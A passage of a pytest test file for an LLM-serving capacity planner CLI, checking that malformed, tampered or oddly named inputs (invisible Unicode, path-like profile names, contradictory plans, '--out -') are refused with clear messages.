    code, out = run("calibrate", ROOT / "catalogs" / "measurements" / "public.yaml", "--group-by", "engine",
                    "--folds", "0", "--out", tmp_path / "no" / "x")
    assert code == 2 and "does not exist; with --group-by, --out is the directory the profiles go to" in out, out


def test_a_break_even_beyond_which_no_plan_exists_says_so(tmp_path):
    """Above the price at which the budget admits no H100 node the problem is infeasible: the row
    said 'leaves above 62.51' beside an empty plan column."""
    base = write(tmp_path, {**SMALL, "limits": {"budget_per_hour": 500}})
    code, out = run("whatif", base, "--breakeven")
    assert code == 0, out
    (row,) = [line for line in out.splitlines() if line.startswith("h100 ")]
    assert "leaves above 62.5" in row and row.rstrip().endswith("infeasible above it (a cap or the budget)"), row


def test_a_parity_plot_draws_only_panels_with_points(tmp_path):
    """Measurements without a TTFT (the catalog's public.yaml) drew the decode panel beside a hidden
    empty one, the title over the blank half; the plot is one panel wide then, two with TTFTs."""
    import struct
    one, two = tmp_path / "one.png", tmp_path / "two.png"
    public = ROOT / "catalogs" / "measurements" / "public.yaml"
    assert run("validate", public, "--folds", "0", "--out-plot", one)[0] == 0
    assert run("validate", ROOT / "tests" / "data" / "bench" / "minimal_sample.csv", "--folds", "0",
               "--out-plot", two)[0] == 0
    width = {p: struct.unpack(">I", p.read_bytes()[16:20])[0] for p in (one, two)}   # the PNG header's width
    assert width[one] < 0.6 * width[two], width


def test_a_fleet_plan_without_its_kind_names_kind(tmp_path):
    """A fleet plan whose `kind` was deleted was read as a single plan: five lines on the single
    plan's missing keys (model, weight_dtype, kv_dtype, workload, slo), none naming `kind`
    (hostile-input hunt, 2026-12-04)."""
    import json as _json

    from planner.errors import BadInput
    from planner.input.load import load_any
    from planner.plan.solve import solve
    from planner.report.format import to_json
    from planner.report.json import plan_json
    from planner.studies.simulate import simulate_services
    p = Path(__file__).resolve().parents[1] / "problems" / "fleet_mix.yaml"
    d = _json.loads(to_json(plan_json(solve(load_any(p), str(p)))))
    del d["kind"]
    with pytest.raises(BadInput) as e:
        simulate_services(d, "f.json")
    assert str(e.value) == "f.json: kind: missing; a plan that lists services is a fleet plan, kind: fleet"


def test_a_plan_whose_distribution_contradicts_its_token_count_is_refused():
    """input_tokens edited to 500 beside a distribution of mean 1,590 was simulated from the
    distribution while the pools had been sized for the count (hostile-input hunt, 2026-12-04)."""
    import json as _json

    from planner.errors import BadInput
    from planner.input.load import load_any
    from planner.plan.solve import solve
    from planner.report.format import to_json
    from planner.report.json import plan_json
    from planner.studies.simulate import plan_from_dict
    p = Path(__file__).resolve().parents[1] / "problems" / "llama70b_chat.yaml"
    d = _json.loads(to_json(plan_json(solve(load_any(p), str(p)))))
    plan_from_dict(d, "ok.json")   # as written: the mean is the count
    d["workload"]["input_tokens"] = 500
    with pytest.raises(BadInput, match=r"m.json: workload: input_distribution: its mean is 1,590 tokens, "
                                       r"input_tokens 500"):
        plan_from_dict(d, "m.json")


@pytest.mark.parametrize("args, kind", [
    (("solve", "__P__", "--out", "-"), "give a file name (without the option the command prints to standard output"),
    (("sweep", "__P__", "--tpot", "20ms:50ms", "--out", "-"), "give a directory name"),
    (("export", "__PLAN__", "--target", "vllm", "--out", "-"), "give a directory name"),
])
def test_a_dash_for_out_is_refused_not_written_as_a_file_named_dash(tmp_path, monkeypatch, args, kind):
    """`--out -` (standard output, as many tools read it) wrote a file named '-' in the current
    directory and said 'wrote -'."""
    monkeypatch.chdir(tmp_path)
    problem = write(tmp_path, SMALL)
    plan = tmp_path / "plan.json"
    plan.write_text("{}")
    code, out = run(*({"__P__": problem, "__PLAN__": plan}.get(a, a) for a in args))
    assert code == 2 and "'-' (standard output) is not a target here" in out and kind in out, out
    assert not (tmp_path / "-").exists()


def test_a_bare_tpot_of_a_second_or_more_in_a_problem_file_is_noted(tmp_path):
    """`tpot: 50` in a problem file planned 50 s a token without a word, where `plan init --tpot 50`
    and `plan sweep --tpot 5` say how a bare number reads (hostile-input hunt, 2026-12-04). The
    value stands (a bare number is seconds); a note says so, for a single problem and a fleet
    class alike, and nothing is said of 0.05."""
    d = yaml.safe_load((ROOT / "problems" / "small_model_cheap_card.yaml").read_text())
    d["slo"]["tpot"] = 50
    code, out = run("solve", write(tmp_path, d))
    assert code == 0 and "p.yaml: slo.tpot: '50' is read as 50 s a token (a bare number is seconds); write 50ms" in out
    d["slo"]["tpot"] = "50"   # quoted: the same bare number, and it said nothing (a hunt, 2026-12-05)
    code, out = run("solve", write(tmp_path, d, "s.yaml"))
    assert code == 0 and "s.yaml: slo.tpot: '50' is read as 50 s a token (a bare number is seconds); write 50ms" in out
    d["slo"]["tpot"] = 0.05
    code, out = run("solve", write(tmp_path, d, "q.yaml"))
    assert code == 0 and "note:" not in out, out
    f = yaml.safe_load((ROOT / "problems" / "fleet_mix.yaml").read_text())
    f["classes"][1]["slo"]["tpot"] = 2
    code, out = run("solve", write(tmp_path, f, "f.yaml"))
    assert code == 0 and "f.yaml: classes[1].slo.tpot: '2' is read as 2 s a token" in out, out


@pytest.mark.parametrize("name, message", [
    ("", "name: a name is empty; give one, or leave the key out for its default"),
    ("  ", "name: a name is empty"),
    ("chat\u202elat", "name: a name is printable text; it holds the invisible format character U+202E "
                      "(RIGHT-TO-LEFT OVERRIDE)"),
    ("chat\u200b", "U+200B (ZERO WIDTH SPACE)"),
])
def test_empty_and_invisible_names_are_refused(tmp_path, name, message):
    """`name: ""` was accepted, and a name holding a right-to-left override printed the rest of the
    table row reversed, a zero-width space made two names that look alike differ (hostile-input
    hunt, 2026-12-04)."""
    d = yaml.safe_load((ROOT / "problems" / "small_model_cheap_card.yaml").read_text())
    d["name"] = name
    code, out = run("solve", write(tmp_path, yaml.safe_dump(d, allow_unicode=True)))
    assert code == 2 and message in out, out


@pytest.mark.parametrize("name", ["fam\U0001F468\u200d\U0001F469\u200d\U0001F467",
                                  "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645", "cafe\u0301", "\u2764\ufe0f"])
def test_joiners_and_marks_in_names_are_printable_text(tmp_path, name):
    """An emoji sequence joins with U+200D and Persian writes U+200C between letters: both are
    format characters, and were refused with the invisible ones (a hunt on 2026-12-04's fix);
    combining marks and variation selectors always passed."""
    d = yaml.safe_load((ROOT / "problems" / "small_model_cheap_card.yaml").read_text())
    d["name"] = name
    code, out = run("solve", write(tmp_path, yaml.safe_dump(d, allow_unicode=True)))
    assert code == 0 and f"Plan for {name}:" in out, out


@pytest.mark.parametrize("name", ["../x", "a/b", "..", "a\\b"])
def test_a_profile_name_is_not_a_path(tmp_path, name):
    """`plan calibrate --name ../x` wrote a profile named '../x' (hostile-input hunt, 2026-12-04)."""
    csv = tmp_path / "m.csv"
    csv.write_bytes((ROOT / "tests" / "data" / "bench" / "minimal_sample.csv").read_bytes())
    code, out = run("calibrate", csv, "--folds", "0", "--name", name, "--out", tmp_path / "p.yaml")
    assert code == 2 and f"--name {name!r}: a profile's name is a word" in out, out
    assert not (tmp_path / "p.yaml").exists()


def test_an_infinite_sweep_value_is_called_infinite(tmp_path):
    """`--tpot 1e400s` (infinite) was 'must be a positive number' (hostile-input hunt, 2026-12-04)."""
    code, out = run("sweep", ROOT / "problems" / "deepseek_qps.yaml", "--tpot", "1e400s", "--out", tmp_path / "s")
    assert code == 2 and "--tpot: '1e400s' is not a finite number" in out, out
    assert not (tmp_path / "s").exists()


@pytest.mark.parametrize("tamper", [
    lambda d: d.update(kind="fleet", services=None) if "services" not in d else d.pop("services"),
    lambda d: d["pools"][0].pop("service"),
    lambda d: d.update(services=None),
    lambda d: d.update(services="x"),
    lambda d: d["pools"].__setitem__(0, None),
])
def test_a_tampered_fleet_plan_is_named_in_words(tmp_path, tamper):
    """Tampered fleet plans were refused with Python's exception in the message ("KeyError('services')",
    "TypeError(\"'NoneType' object is not iterable\")"; a hostile-input hunt): the message says what
    is missing or of the wrong type."""
    d = json.loads((ROOT / "tests" / "golden" / "solve" / "fleet_mix.json").read_text())
    tamper(d)
    f = write(tmp_path, json.dumps(d), "t.json")
    for cmd in (("simulate", f, "--requests", "2000"), ("export", f, "--target", "vllm", "--out", tmp_path / "x")):
        code, out = run(*cmd)
        assert code == 2 and "Error(" not in out and "Error:" not in out, out


def test_a_period_pool_of_no_class_is_refused_not_dropped(tmp_path):
    """A pool of a fleet over a day without its `class` was left out of the simulation: the other
    decode pool ran at 156 % and the run exited 0 (a hostile-input hunt)."""
    d = json.loads((ROOT / "tests" / "golden" / "solve" / "fleet_day.json").read_text())
    del d["periods"][20]["pools"][0]["class"]
    code, out = run("simulate", write(tmp_path, json.dumps(d), "t.json"), "--period", "20", "--requests", "2000")
    assert code == 2 and "periods[20].pools[0].class: missing" in out, out


def test_simulate_on_a_json_that_is_not_a_plan_is_one_line(tmp_path):
    """`plan simulate` on a JSON without `pools` listed eight 'required field is missing' lines
    (a hostile-input hunt, third round), where `plan export` said it in one."""
    p = write(tmp_path, json.dumps({"a": 1}), "x.json")
    code, out = run("simulate", p)
    assert code == 2 and out.strip() == (f"error: {p}: not a plan file written by plan solve (no `pools`); "
                                         f"write one with plan solve PROBLEM --out PLAN.json"), out


def test_a_file_nested_too_deep_says_so_in_a_whole_sentence(tmp_path):
    p = write(tmp_path, "a: " + "[" * 200 + "]" * 200 + "\n")
    code, out = run("solve", p)
    assert code == 2 and out.strip().endswith("levels deep; no planner file nests that deep"), out


def test_validate_timings_without_simulate_is_a_usage_error():
    """`plan validate --timings` without `--simulate` was accepted and did nothing (hostile hunt, third round)."""
    code, out = run("validate", ROOT / "tests" / "data" / "bench" / "minimal_sample.csv", "--timings", "--folds", "0")
    assert code == 2 and "--timings puts the closed-loop simulation's seconds in the JSON; it needs --simulate" in out


def test_a_name_the_charts_font_cannot_draw_is_one_note_not_matplotlibs_warnings(tmp_path):
    """A scenario named in Japanese with an emoji printed matplotlib's UserWarning, two lines of
    Python (file, line, source) for each of its characters the font lacks, on `whatif --plot` and
    a sweep's PNG (hostile-input hunt, 2026-12-06); now one note, and the chart is written."""
    import warnings
    base = write(tmp_path, SMALL)
    scenario = write(tmp_path, {"name": "日本語シナリオ😀", "workload": {"qps_multiplier": 2}}, "s.yaml")
    with warnings.catch_warnings():
        warnings.simplefilter("default")   # as at the command line: each warning shown once
        r = CliRunner().invoke(cli.main, ["whatif", str(base), str(scenario), "--plot", str(tmp_path / "w.png")])
    assert r.exit_code == 0, r.output
    assert r.stderr == ("note: the chart's font (DejaVu Sans) cannot draw some characters of a name (the first: "
                        f"'日', U+65E5); the chart shows them as empty boxes\nwrote {tmp_path / 'w.png'}\n"), r.stderr
    assert (tmp_path / "w.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
